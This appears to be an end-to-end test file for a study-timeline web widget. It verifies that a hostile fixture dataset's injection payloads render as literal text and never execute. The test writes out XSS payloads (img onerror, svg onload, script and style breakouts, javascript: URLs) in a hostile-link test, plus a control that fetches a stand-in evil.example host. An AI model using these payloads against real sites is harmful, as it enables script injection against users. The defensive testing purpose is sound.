// Hostile data: the widget built with tests/fixtures/hostile/studies.json (every free-text field is
// a script-injection or format-breaking payload, see make.py there) must show every payload as
// plain text and execute none of them, under the strict Content-Security-Policy.
//
// Build first (scripts/test.sh does):
//   MECFS_DATASET=tests/fixtures/hostile/studies.json DIST=dist-hostile bash scripts/build.sh
//
// Every payload, if it ran, would call window.__pwned(id), log "PWNED <id>", open a dialog or
// request https://evil.example/<id>. This test records all four, plus securitypolicyviolation
// events, page errors and popups, across every view, the share panel, downloads, clipboard copies
// and print media, and expects none. It also checks that each payload's marker (its id) is shown
// as literal text, the CSV formula guard, and the structure of the BibTeX and RIS copies.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { serve } from './server.mjs';
import { launch } from './browser.mjs';
import { fileURLToPath } from 'node:url';

// Self-contained on purpose (only the server and the browser launcher are shared), so it does not
// break when the shared helpers of the other e2e tests move.
const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const SHOTS = path.join(ROOT, 'test-results', 'screenshots');

const DIST = path.join(ROOT, 'dist-hostile');
const FIXTURE = path.join(ROOT, 'tests/fixtures/hostile');
const BUILD = 'MECFS_DATASET=tests/fixtures/hostile/studies.json DIST=dist-hostile bash scripts/build.sh';

const built = fs.existsSync(path.join(DIST, 'index.html'));
const SKIP = built ? false : `dist-hostile/ does not exist: build it with \`${BUILD}\``;
if (!built) console.log(`# hostile e2e test skipped: ${SKIP}`);

const data = built ? JSON.parse(fs.readFileSync(path.join(FIXTURE, 'studies.json'), 'utf8')) : null;
const payloads = built ? JSON.parse(fs.readFileSync(path.join(FIXTURE, 'payloads.json'), 'utf8')).payloads : [];
const N = data?.studies.length ?? 0;

/** Fields of payloads that the page shows (the dataset title is only in the JSON download). */
const exportOnly = (p) => p.record === 'file' && p.field === 'title';

// Everything that would mean a payload ran (or the page misbehaved), across all pages.
const seen = { dialogs: [], pwned: [], foreign: [], csp: [], errors: [], popups: [] };
const views = [];
const texts = new Map(); // view name -> collected page text
const formValues = []; // values of inputs and textareas (links, snippet, fallback)

let server;
let serverNoCsp;
let browser;

before(async () => {
  if (SKIP) return;
  // The build must embed the hostile data, not data/studies.json.
  const wasm = fs.readdirSync(DIST).find((f) => f.endsWith('.wasm'));
  assert.ok(wasm, 'no .wasm in dist-hostile/');
  // The wasm's text is compressed (crates/data/src/pack.rs), so look for the hostile ids in the
  // page's prerender, which the same build writes from the same dataset; the live widget is then
  // checked study by study below.
  const page = fs.readFileSync(path.join(DIST, 'index.html'), 'utf8');
  assert.ok(page.includes('data-study-id="hostile-study-01"'),
    `dist-hostile/ was not built with the hostile dataset; rebuild with \`${BUILD}\``);
  fs.mkdirSync(SHOTS, { recursive: true });
  server = await serve({ '/': DIST }, { csp: true });
  serverNoCsp = await serve({ '/': DIST });
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await server?.close();
  await serverNoCsp?.close();
});

/** Installed before any page script: the __pwned recorder and the CSP violation listener. */
function initScript() {
  const calls = [];
  Object.defineProperty(window, '__pwnedCalls', { value: calls });
  window.__pwned = (id) => {
    calls.push(String(id));
    console.log(`PWNED ${id}`);
  };
  document.addEventListener('securitypolicyviolation', (e) => {
    console.log(`CSP-VIOLATION ${e.violatedDirective} ${e.blockedURI} ${e.sample || ''}`);
  }, true);
}

/** A fresh context and page that records everything a payload could do. */
async function newHostilePage(name, { csp = true, clipboard = false } = {}) {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 900 },
    acceptDownloads: true,
  });
  const origin = (csp ? server : serverNoCsp).url;
  if (clipboard) await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await context.addInitScript(initScript);
  context.on('request', (r) => {
    const u = r.url();
    const own = u.startsWith(`${origin}/`) || u.startsWith(`blob:${origin}/`) || u === 'data:,';
    if (!own) seen.foreign.push(`${name}: ${r.method()} ${u}`);
  });
  const page = await context.newPage();
  page.on('dialog', async (d) => {
    seen.dialogs.push(`${name}: ${d.type()} ${d.message()}`);
    await d.dismiss().catch(() => {});
  });
  page.on('console', (m) => {
    const t = m.text();
    if (t.includes('PWNED')) seen.pwned.push(`${name}: console ${t}`);
    else if (t.startsWith('CSP-VIOLATION') || /Content Security Policy/i.test(t)) seen.csp.push(`${name}: ${t}`);
    else if (m.type() === 'error') seen.errors.push(`${name}: console ${t}`);
  });
  page.on('pageerror', (e) => seen.errors.push(`${name}: pageerror ${e.message}`));
  page.on('popup', (p) => seen.popups.push(`${name}: popup ${p.url()}`));
  page.viewName = name;
  page.origin = origin;
  return page;
}

/** Opens `query` in a fresh page and waits for the widget. */
async function open(name, query, options = {}) {
  const page = await newHostilePage(name, options);
  await page.goto(`${page.origin}/${query}`);
  await page.waitForSelector('.app[data-live] #count-live', { timeout: 30000 });
  if (!options.control) views.push(name);
  return page;
}

/** The page's visible text: body innerText plus every SVG text (tooltips, lanes, ladders). */
async function pageText(page) {
  return page.evaluate(() => {
    const parts = [document.body.innerText];
    for (const t of document.querySelectorAll('svg text, svg title')) parts.push(t.textContent);
    return parts.join('\n');
  });
}

/** Records the page's text and form values under `name`, and its __pwned calls. */
async function collect(page, name = page.viewName) {
  const text = await pageText(page);
  texts.set(name, (texts.get(name) ?? '') + '\n' + text);
  formValues.push(...await page.evaluate(() => [...document.querySelectorAll('input, textarea')].map((e) => e.value)));
  const calls = await page.evaluate(() => window.__pwnedCalls.slice());
  for (const c of calls) seen.pwned.push(`${name}: __pwned(${c})`);
  return text;
}

/** Lets late handlers (timers, animations, image errors) fire before looking. */
const settle = (page, ms = 400) => page.waitForTimeout(ms);

function executions() {
  return seen.dialogs.length + seen.pwned.length + seen.foreign.length + seen.csp.length + seen.popups.length;
}

/** How much of each `seen` list an earlier assertClean already judged. */
const judged = Object.fromEntries(Object.keys(seen).map((k) => [k, 0]));

/**
 * Fails when anything ran or errored since the previous check. Each test is judged on its own
 * records so one failure does not cascade into every later test; the last test still sums all.
 */
function assertClean(where) {
  const fresh = Object.entries(seen).map(([k, v]) => [k, v.slice(Math.min(judged[k], v.length))]).filter(([, v]) => v.length);
  for (const [k, v] of Object.entries(seen)) judged[k] = v.length;
  const report = fresh.map(([k, v]) => `${k}:\n  ${v.slice(0, 15).join('\n  ')}`).join('\n');
  if (report) console.error(`hostile: after ${where}:\n${report}`);
  assert.equal(fresh.reduce((n, [, v]) => n + v.length, 0), 0, `after ${where}:\n${report}`);
}

/** Parses RFC 4180 CSV strictly (quoted fields may hold commas, quotes and newlines). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  for (; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
    } else if (c === '"') {
      throw new Error(`stray quote in an unquoted CSV field at offset ${i}`);
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else {
      field += c;
    }
  }
  if (quoted) throw new Error('CSV ends inside a quoted field');
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

/** The number in "#count-live" text like "14 studies". */
function countOf(text) {
  const m = /^(\d+) stud(y|ies)$/.exec(text.trim());
  if (!m) throw new Error(`not a count: ${JSON.stringify(text)}`);
  return Number(m[1]);
}

/** Text normalised for comparing a payload with what innerText shows. */
function norm(s) {
  return s
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/g, '')
    .replace(/[\s\u2028\u2029]+/g, ' ')
    .trim()
    .toLowerCase();
}

async function withPage(name, query, fn, options) {
  const page = await open(name, query, options);
  try {
    await fn(page);
  } finally {
    await page.context().close();
  }
}

describe('hostile dataset: every payload is shown as text and none runs', { skip: SKIP }, () => {
  it('dataset sanity: at least 50 distinct payloads, each with its marker', () => {
    assert.ok(payloads.length >= 50, `${payloads.length} payloads`);
    assert.equal(new Set(payloads.map((p) => p.payload)).size, payloads.length, 'payloads are distinct');
    for (const p of payloads) assert.ok(p.payload.includes(p.id), `${p.id} lacks its marker`);
  });

  it('self-test: the detectors do see payloads that run', { timeout: 60000 }, async () => {
    const lengths = Object.fromEntries(Object.entries(seen).map(([k, v]) => [k, v.length]));
    const inject = (page) => page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=__pwned("CONTROL")>');
      fetch('https://evil.example/CONTROL').catch(() => {});
    });
    const withCsp = await open('control (CSP)', '', { control: true });
    await inject(withCsp);
    await withCsp.evaluate(() => setTimeout(() => alert('CONTROL'), 0));
    await settle(withCsp, 800);
    await withCsp.context().close();
    const noCsp = await open('control (no CSP)', '', { csp: false, control: true });
    await inject(noCsp);
    await settle(noCsp, 800);
    await collect(noCsp, 'control');
    await noCsp.context().close();
    texts.delete('control');
    const grew = Object.fromEntries(Object.entries(seen).map(([k, v]) => [k, v.length - lengths[k]]));
    // Forget the control's own records before the real pages are judged.
    for (const [k, v] of Object.entries(seen)) v.length = lengths[k];
    assert.ok(grew.csp >= 1, `the CSP violation was not seen: ${JSON.stringify(grew)}`);
    assert.ok(grew.dialogs >= 1, `the dialog was not seen: ${JSON.stringify(grew)}`);
    assert.ok(grew.pwned >= 1, `__pwned was not seen: ${JSON.stringify(grew)}`);
    assert.ok(grew.foreign >= 1, `the foreign request was not seen: ${JSON.stringify(grew)}`);
  });

  it('timeline: marks, tooltips by keyboard and hover', { timeout: 120000 }, async () => {
    await withPage('timeline', '', async (page) => {
      await page.waitForSelector('.tl-scroll [data-study-id]');
      assert.equal(countOf(await page.textContent('#count-live')), N);
      // "About this data" holds the dataset's inclusion text: open it so it is read as text too.
      await page.click('#about-data summary');
      await collect(page);
      const scroll = page.locator('.tl-scroll');
      await scroll.focus();
      let tooltips = 0;
      for (let i = 0; i < 8; i++) {
        await page.keyboard.press('ArrowRight');
        await page.waitForSelector('g.tooltip', { timeout: 5000 }).catch(() => {});
        if (await page.locator('g.tooltip').count()) tooltips++;
        await collect(page, 'timeline-tooltips');
      }
      // Hover a few marks with the mouse too.
      const marks = page.locator('.tl-scroll .mark[data-study-id]');
      const n = Math.min(await marks.count(), 6);
      for (let i = 0; i < n; i++) {
        await marks.nth(i).hover({ force: true }).catch(() => {});
        await settle(page, 150);
        await collect(page, 'timeline-tooltips');
      }
      assert.ok(tooltips > 0, 'no tooltip appeared on keyboard focus');
      await settle(page);
      await page.screenshot({ path: path.join(SHOTS, 'hostile-timeline.png'), fullPage: true });
      await collect(page);
      assertClean('timeline');
    });
  });

  it('table view', { timeout: 60000 }, async () => {
    await withPage('table', '?view=table', async (page) => {
      await page.waitForSelector('table.study-table tr[data-study-id]');
      assert.equal(await page.locator('tr[data-study-id]').count(), N);
      await settle(page);
      await collect(page);
      assertClean('table');
    });
  });

  it('every study detail', { timeout: 300000 }, async () => {
    for (const s of data.studies) {
      await withPage(`detail ${s.id}`, `?study=${s.id}`, async (page) => {
        await page.waitForSelector(`section.detail[data-study-id="${s.id}"]`);
        await settle(page, 200);
        await collect(page);
      });
    }
    assertClean('study details');
  });

  it('compare view with hostile treatments', { timeout: 60000 }, async () => {
    const keys = data.treatments.map((t) => t.key);
    for (const group of [keys.slice(0, 4), keys.slice(4)]) {
      await withPage(`compare ${group.join('~')}`, `?view=compare&treat=${group.join('~')}`, async (page) => {
        await page.waitForSelector('article.compare-col');
        assert.equal(await page.locator('article.compare-col').count(), group.length);
        await settle(page);
        await collect(page);
      });
    }
    assertClean('compare');
  });

  it('share panel, CSV and JSON downloads, citation copies, print media', { timeout: 120000 }, async () => {
    await withPage('share', '', async (page) => {
      await page.click('details#share > summary');
      await page.waitForSelector('#dl-csv', { state: 'visible' });
      await collect(page, 'share');

      // CSV: the formula guard holds for every cell.
      const [csvDl] = await Promise.all([page.waitForEvent('download', { timeout: 10000 }), page.click('#dl-csv')]);
      const csv = fs.readFileSync(await csvDl.path(), 'utf8');
      fs.writeFileSync(path.join(SHOTS, 'hostile.csv'), csv);
      const rows = parseCsv(csv);
      assert.equal(rows.length, N + 1, 'header + one row per study');
      const width = rows[0].length;
      for (const [r, row] of rows.entries()) {
        assert.equal(row.length, width, `CSV row ${r} has ${row.length} cells, not ${width}`);
        for (const [c, cell] of row.entries()) {
          assert.ok(!/^[=+\-@\t\r]/.test(cell), `CSV row ${r} column ${rows[0][c]} starts a formula: ${JSON.stringify(cell.slice(0, 60))}`);
        }
      }
      const csvText = rows.flat().join('\n');
      texts.set('csv', csvText);

      // JSON: every study payload comes back as the very same string.
      const [jsonDl] = await Promise.all([page.waitForEvent('download', { timeout: 10000 }), page.click('#dl-json')]);
      const exported = JSON.parse(fs.readFileSync(await jsonDl.path(), 'utf8'));
      assert.equal(exported.studies.length, N);
      const strings = new Set();
      (function walk(v) {
        if (typeof v === 'string') strings.add(v);
        else if (v && typeof v === 'object') Object.values(v).forEach(walk);
      })(exported);
      // The export names each study's treatment by key, so treatment names are not in it.
      for (const p of payloads.filter((x) => !x.record.startsWith('treatment'))) {
        assert.ok(strings.has(p.payload), `${p.id} (${p.field} of ${p.record}) is not in the JSON export unchanged`);
      }
      texts.set('json', [...strings].join('\n'));

      // Clipboard: plain citations, BibTeX and RIS.
      const copied = {};
      for (const [button, what, label] of [['#copy-citations', 'citations', 'Citations'], ['#copy-bibtex', 'bibtex', 'BibTeX'], ['#copy-ris', 'ris', 'RIS']]) {
        // Dismiss the previous message so the wait below sees this copy's own.
        while (await page.locator('[data-notice] button.notice-close').count()) {
          await page.locator('[data-notice] button.notice-close').first().click();
        }
        await page.evaluate(() => navigator.clipboard.writeText('').catch(() => {}));
        await page.click(button);
        await page.waitForFunction((l) => [...document.querySelectorAll('[data-notice]')].some((n) => n.textContent.includes(`${l} copied`))
          || document.querySelector('#copy-fallback'), label, { timeout: 10000 });
        await settle(page, 100);
        const fallback = await page.locator('#copy-fallback').count();
        copied[what] = fallback
          ? await page.inputValue('#copy-fallback')
          : await page.evaluate(() => navigator.clipboard.readText());
        if (fallback) views.push(`${what} (clipboard refused; fallback box)`);
        assert.ok(copied[what].length > 0, `${what} copy is empty`);
      }
      const citeLines = copied.citations.split(/\r?\n/).filter((l) => l.trim());
      assert.equal(citeLines.length, N, 'one citation line per study');
      // BibTeX: N entries, each opened at the start of a line, braces balanced inside each.
      const entries = copied.bibtex.split(/\n(?=@)/).map((e) => e.trim()).filter(Boolean);
      assert.equal(entries.length, N, 'one BibTeX entry per study');
      for (const e of entries) {
        assert.match(e, /^@\w+\{[A-Za-z0-9_:.-]+,\n/, `entry head: ${e.slice(0, 80)}`);
        let depth = 0;
        for (const ch of e) {
          if (ch === '{') depth++;
          if (ch === '}') depth--;
          assert.ok(depth >= 0, `BibTeX braces close early in ${e.slice(0, 80)}`);
        }
        assert.equal(depth, 0, `BibTeX braces unbalanced in ${e.slice(0, 80)}`);
        // Inside an entry no line may start a new one.
        assert.equal(e.split('\n').filter((l) => /^\s*@/.test(l)).length, 1, `injected @entry in ${e.slice(0, 80)}`);
      }
      // RIS: every line is one tag; N records.
      const risLines = copied.ris.split('\r\n').filter((l) => l !== '');
      for (const l of risLines) assert.match(l, /^[A-Z][A-Z0-9]  - /, `RIS line is not a tag: ${JSON.stringify(l.slice(0, 80))}`);
      assert.equal(risLines.filter((l) => l.startsWith('TY  - ')).length, N, 'one RIS record per study');
      assert.equal(risLines.filter((l) => l.startsWith('ER  - ')).length, N, 'one RIS end per study');
      texts.set('citations', copied.citations);
      await collect(page, 'share');

      // Print media: the one-page summary shows instead of the controls.
      await page.emulateMedia({ media: 'print' });
      // The summary is rendered when the print media query matches, one frame after the switch.
      await page.waitForFunction(() => {
        const summary = document.querySelector('.print-summary');
        return summary !== null && getComputedStyle(summary).display !== 'none';
      });
      views.push('print');
      await collect(page, 'print');
      const printText = texts.get('print');
      for (const s of data.studies) {
        const marker = payloads.find((p) => p.record === `study \`${s.id}\`` && p.field === 'title').id;
        assert.ok(printText.toLowerCase().includes(marker.toLowerCase()), `print summary lacks title ${marker}`);
      }
      await page.screenshot({ path: path.join(SHOTS, 'hostile-print.png'), fullPage: true });
      await settle(page);
      assertClean('share panel, downloads, copies and print');
    }, { clipboard: true });
  });

  it('a hostile link (search text, unknown keys and values) is shown as text too', { timeout: 60000 }, async () => {
    const L = ['HL01', 'HL02', 'HL03', 'HL04', 'HL05'];
    const q = [
      `q=${encodeURIComponent(`<img src=x onerror=__pwned("${L[0]}")>`)}`,
      `${encodeURIComponent(`<svg onload=__pwned("${L[1]}")>`)}=1`,
      `treat=${encodeURIComponent(`"><script>__pwned("${L[2]}")</script>`)}`,
      `study=${encodeURIComponent(`javascript:__pwned("${L[3]}")`)}`,
      `theme=${encodeURIComponent(`</style>${L[4]}<img src=x onerror=__pwned("${L[4]}")>`)}`,
    ].join('&');
    await withPage('hostile link', `?view=table&${q}`, async (page) => {
      await page.waitForSelector('[data-notice]');
      await page.click('details#share > summary');
      await settle(page);
      const text = await collect(page);
      const values = await page.evaluate(() => [...document.querySelectorAll('input, textarea')].map((e) => e.value).join('\n'));
      assert.ok(values.includes(`<img src=x onerror=__pwned("${L[0]}")>`), 'the search box shows the text as typed');
      for (const m of L.slice(1)) assert.ok(text.includes(m), `the notice does not show ${m} as text`);
      // The embed snippet escapes the link: it can hold no raw quote or angle bracket from the URL.
      const snippet = await page.inputValue('#embed-snippet');
      const src = /src="([^"]*)"/.exec(snippet)?.[1] ?? '';
      assert.ok(!/[<>]/.test(src), `embed snippet src is not escaped: ${src}`);
      assertClean('hostile link');
    });
  });

  it('without the CSP too, nothing runs (the escaping, not only the policy, holds)', { timeout: 120000 }, async () => {
    for (const [name, query] of [['no-csp timeline', ''], ['no-csp table', '?view=table'],
      ['no-csp detail', `?study=${data.studies[0].id}`], ['no-csp detail 2', `?study=${data.studies[1].id}`]]) {
      await withPage(name, query, async (page) => {
        await page.waitForSelector('[data-study-id]');
        if (await page.locator('.tl-scroll').count()) {
          await page.locator('.tl-scroll').focus();
          await page.keyboard.press('ArrowRight');
        }
        await settle(page);
        await collect(page, name);
      }, { csp: false });
    }
    assertClean('pages without the CSP');
  });

  it('every payload shows as literal text, and none ran', () => {
    const all = norm([...texts.entries()].filter(([k]) => !['csv', 'json', 'citations'].includes(k)).map(([, v]) => v).join('\n'));
    const exports = norm(['csv', 'json', 'citations'].map((k) => texts.get(k) ?? '').join('\n'));
    const missing = [];
    let literal = 0;
    const notLiteral = [];
    for (const p of payloads) {
      const marker = p.id.toLowerCase();
      const hay = exportOnly(p) ? exports : all;
      if (!hay.includes(marker)) {
        missing.push(`${p.id} (${p.kind}, ${p.field} of ${p.record})`);
        continue;
      }
      // The payload's opening, markup included, reads back as typed.
      const head = norm(p.payload).slice(0, 60);
      if (hay.includes(head)) literal++;
      else notLiteral.push(`${p.id} (${p.kind}): ${JSON.stringify(head)}`);
    }
    console.log(`# hostile: ${payloads.length} payloads tried (${new Set(payloads.map((p) => p.kind)).size} kinds), `
      + `${views.length} views opened, ${payloads.length - missing.length} markers found as text, `
      + `${literal} verbatim, executions seen: ${executions()} `
      + `(dialogs ${seen.dialogs.length}, PWNED ${seen.pwned.length}, foreign requests ${seen.foreign.length}, `
      + `CSP violations ${seen.csp.length}, popups ${seen.popups.length}), page errors ${seen.errors.length}`);
    assert.deepEqual(missing, [], 'payload markers not shown as text');
    assert.ok(literal >= 20, `only ${literal} payloads found verbatim`);
    assert.deepEqual(notLiteral.filter((x) => x.includes('<')), [], 'markup payloads not shown verbatim');
    assertClean('all views');
  });
});
